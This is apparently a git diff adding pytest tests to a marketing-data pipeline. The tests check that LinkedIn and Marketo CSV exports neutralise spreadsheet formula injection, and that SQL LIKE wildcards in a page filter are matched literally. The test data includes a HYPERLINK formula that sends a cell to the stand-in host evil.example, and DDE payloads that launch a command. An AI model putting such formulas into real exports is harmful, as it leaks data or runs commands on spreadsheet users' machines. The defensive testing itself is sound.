@@ -13,6 +13,8 @@
 from __future__ import annotations
 
 import asyncio
+import csv
+import io
 import json
 import socket
 from datetime import datetime
@@ -22,6 +24,9 @@ import pandas as pd
 import pytest
 from aiosmtpd.controller import Controller
 
+from blueprint_pipeline.activation.linkedin import persons_of, write_list
+from blueprint_pipeline.config.activation import ContactList, LinkedIn
+from blueprint_pipeline.csv_safety import cell
 from blueprint_pipeline.defs.journeys.delivery import journey_deliveries
 from blueprint_pipeline.journeys.delivery import MAX_ATTEMPTS, MailboxSender, SmtpSender, deliver
 from blueprint_pipeline.resources import BlueprintConfigResource, DeliveryResource, LandingResource
@@ -185,3 +190,73 @@ def test_a_rerun_at_the_same_as_of_writes_the_same_linkedin_files(warehouse, tmp
         "select activated_at, key from activation_members where list_name = 'targets' order by 1, 2"
     )
     assert [k for _, k in as_handed_out] == ["A1", "A2", "A3", "A1", "A3", "A4"], "T1 kept: T2's baseline"
+
+
+HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A2,"Mary")'
+
+
+@pytest.mark.parametrize(
+    ("value", "written"),
+    [
+        (HYPERLINK, '"\'=HYPERLINK(""http://evil.example/?d=""&A2,""Mary"")"'),
+        ("=cmd|' /C calc'!A0", "\"'=cmd|' /C calc'!A0\""),
+        ("+1+cmd|' /C calc'!A0", "\"'+1+cmd|' /C calc'!A0\""),
+        ("-2+3", '"\'-2+3"'),
+        ("@SUM(A1)", '"\'@SUM(A1)"'),
+        ("\tTAB", '"\'\tTAB"'),
+        ("\rCR", '"\'\rCR"'),
+        ("-5", "-5"),  # a number is data: a spreadsheet reads it as the number it is
+        (-5.5, "-5.5"),
+        ("+49", "+49"),
+        ("Mary, Jane", '"Mary, Jane"'),
+        ("Mary", "Mary"),
+        (None, ""),
+    ],
+)
+def test_a_cell_a_spreadsheet_would_run_is_neutralised(value, written):
+    assert cell(value) == written
+    raw = cell(value, neutralise=False)  # for machines (the Bulk API files): read back as it was
+    assert next(csv.reader(io.StringIO(raw + ",x"))) == ["" if value is None else str(value), "x"]
+
+
+def test_formulas_are_neutralised_in_the_linkedin_and_marketo_files(tmp_path):
+    """A CRM first name `=HYPERLINK(...)` reached the LinkedIn files verbatim: now quoted text."""
+    frame = pd.DataFrame(
+        {"key": ["p1", "p2"], "email": ["a@x.com", "b@x.com"], "firstname": [HYPERLINK, "Line\nbreak"],
+         "lastname": "-Smith", "jobtitle": "CIO", "employeecompany": "@corp", "country": "DE", "googleaid": ""}
+    )  # fmt: skip
+    settings = LinkedIn(max_records_per_file=1)
+    write_list(tmp_path, "contact", "people", frame, set(), settings, {}, "20260302T000000")
+    out = tmp_path / "people" / "20260302T000000"
+    first = (out / "full-0001.csv").read_text()
+    assert first.splitlines()[1] == (
+        """a@x.com,"'=HYPERLINK(""http://evil.example/?d=""&A2,""Mary"")","'-Smith",CIO,"'@corp",DE,"""
+    )
+    with (out / "full-0002.csv").open(newline="") as handle:  # split between rows, not inside one
+        assert list(csv.reader(handle))[1][1] == "Line\nbreak"
+    assert HYPERLINK not in (out / "adds.csv").read_text().replace("'=", "")
+    marketo = frame.rename(columns={"firstname": "firstName", "lastname": "lastName", "jobtitle": "title",
+                                    "employeecompany": "company"})  # fmt: skip
+    write_list(tmp_path, "marketo", "static", marketo, set(), settings, {}, "20260302T000000")
+    assert "\"'=HYPERLINK(" in (tmp_path / "static" / "20260302T000000" / "full-0001.csv").read_text()
+
+
+def test_an_underscore_in_page_contains_is_a_character(warehouse):
+    """`form_visitors.page_contains: "_"` matched every page (a LIKE wildcard): now only the page
+    whose address holds an underscore."""
+    at = datetime(2026, 3, 2)
+    pages = ["https://x.com/contact_form", "https://x.com/pricing", "https://x.com/blog"]
+    with warehouse.transaction() as session:
+        session.replace_table(
+            "int_person_activities",
+            pd.DataFrame({"person_id": ["p1", "p2", "p3"], "activity_id": ["a1", "a2", "a3"], "kind": "page_view",
+                          "activity_at": [datetime(2026, 3, 1)] * 3}),
+        )  # fmt: skip
+        session.replace_table(
+            "stg_marketo__activities",
+            pd.DataFrame({"activity_id": ["a1", "a2", "a3"], "primary_attribute_value": pages}),
+        )
+    for page, expected in (("_", ["p1"]), ("%", []), ("PRICING", ["p2"])):
+        definition = ContactList(form_visitors={"page_contains": page, "within_days": 30})
+        sql, params = persons_of(definition, pd.Timestamp(at))
+        assert sorted(p for (p,) in warehouse.fetchall(sql, params)) == expected, page
